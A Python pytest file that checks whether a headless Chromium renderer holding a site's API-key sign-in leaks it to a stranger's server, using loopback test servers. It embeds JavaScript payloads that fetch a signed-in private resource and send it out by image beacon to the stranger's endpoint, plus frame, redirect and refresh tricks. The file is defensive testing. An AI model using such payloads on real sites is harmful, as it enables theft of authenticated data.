"""What of a site's sign-in a drawn page can carry elsewhere: a real Chromium, the site and a stranger's server on loopback."""

import pytest

from models.page.page_fetch import fetch_page
from models.page.rendered_page import can_render, page_renderer
from models.page.site_sign_in import SignedIn
from models.support.outbound import Outbound, Refused
from tests.models.support.wire import answer, wire

pytestmark = [pytest.mark.slow, pytest.mark.browser, pytest.mark.skipif(not can_render(), reason="no Chromium on this machine")]

SECRET = "s3cret-of-the-harbour"
PRIVATE = "three-berths-are-free"
SCRIPT = {"content_type": "text/javascript"}


class Site:
    """Behind a sign-in: `/private`, which any request without it is refused, as a page and as a script."""

    def __init__(self, pages: dict[str, str], stranger: str) -> None:
        self._pages, self._stranger = pages, stranger
        self.served = None

    def say(self, served):
        def said(path: str) -> bytes:
            name = path.partition("?")[0]
            if name == "/private":
                signed = SECRET in served.asked[-1]
                body = f"document.title = '{PRIVATE}'" if signed else "document.title = 'refused'"
                return answer(body.encode(), "200 OK" if signed else "401 No", **SCRIPT)
            if name == "/leave":
                return answer(status="302 Found", location=f"{self._stranger}{path.partition('?')[2] or '/'}")
            return answer(self._pages[name].replace("STRANGER", self._stranger).encode())

        return said


def draw(page: str, stranger: dict[str, str], path: str = "/"):
    """Draws the site's page at `path`; returns it (or the refusal), and what the stranger was asked."""

    def strange(served):
        def said(path: str) -> bytes:
            html = stranger.get(path.partition("?")[0], "")
            own, site = served.url("").rstrip("/"), f"http://{site_place[0]}"
            return answer(html.replace("SITE", site).replace("OWN", own).encode(), access_control_allow_origin="*")

        return said

    site_place: list[str] = []
    with wire(strange) as elsewhere, wire(Site({"/": page, "/own": page}, f"http://{elsewhere.place}").say) as site:
        site_place.append(site.place)
        outbound = Outbound([site.place, elsewhere.place])
        fetched = fetch_page(site.url("/"), outbound)
        with page_renderer(outbound, SignedIn(f"http://{site.place}", {"x-api-key": SECRET})) as drawing:
            try:
                drawn = drawing(fetched).html
            except Refused as refused:
                drawn = refused
        return drawn, elsewhere.asked


TELL = "(text) => { document.title = text; new Image().src = 'OWN/told?' + encodeURIComponent(text); }"
READS = f"<script>fetch('SITE/private').then((a) => a.text()).then({TELL}, () => ({TELL})('nothing'))</script>"
RUNS = f"<script src='SITE/private' onload=\"({TELL})(document.title)\" onerror=\"({TELL})('nothing')\"></script>"

NEST = """<script>fetch('/').then((answer) => answer.blob()).then((page) => { location = URL.createObjectURL(page); })</script>"""


def test_the_sites_own_page_gets_what_is_behind_the_sign_in():
    drawn, asked = draw("<title>x</title><p>Boats</p><script src='/private'></script>", {})
    assert f"<title>{PRIVATE}</title>" in drawn
    assert asked == []


@pytest.mark.parametrize("how", [READS, RUNS], ids=["read", "run as a script"])
@pytest.mark.parametrize(
    "frame",
    ["<iframe src='STRANGER/'></iframe>", "<iframe src='STRANGER/nest'></iframe>"],
    ids=["a frame", "a frame that makes itself one without an origin"],
)
def test_a_strangers_frame_on_the_page_gets_nothing_of_it(how, frame):
    drawn, asked = draw(f"<p>Boats</p>{frame}", {"/": how, "/nest": NEST})
    assert "Boats" in drawn
    heads = " ".join(asked)
    assert "/told?" in heads
    assert PRIVATE not in heads
    assert SECRET not in heads


@pytest.mark.parametrize(
    "leave",
    [
        "<script>location = 'STRANGER/'</script>",
        "<script>location = '/leave'</script>",
        "<meta http-equiv=refresh content='0;STRANGER/'>",
    ],
    ids=["by a script", "by a redirect of the site", "by a refresh"],
)
def test_a_page_that_leads_elsewhere_is_not_drawn_as_the_sites(leave):
    drawn, asked = draw(f"<p>Boats</p>{leave}", {"/": f"<p>Boats</p>{READS}"})
    assert isinstance(drawn, Refused), drawn
    assert "another origin" in drawn.reason
    heads = " ".join(asked)
    assert SECRET not in heads
    assert PRIVATE not in heads


def test_a_redirect_into_a_frame_does_not_make_the_stranger_the_site():
    """The browser is not told of redirects: the stranger's page would stand under the site's own address."""
    drawn, asked = draw("<p>Boats</p><iframe src='/leave'></iframe>", {"/": READS.replace("SITE", "") + "<p>told</p>"})
    assert "Boats" in drawn
    assert PRIVATE not in " ".join(asked)


def test_a_redirected_picture_does_not_take_the_sign_in_along():
    drawn, asked = draw("<p>Boats</p><img src='/leave?/picture'>", {"/picture": "no picture"})
    assert "Boats" in drawn
    assert [head.split(" ")[1] for head in asked] == ["/picture"]
    assert SECRET not in asked[0]


def test_a_new_window_is_not_part_of_the_page():
    drawn, asked = draw("<p>Boats</p><script>window.open('STRANGER/')</script>", {"/": READS})
    assert "Boats" in drawn
    assert asked == []
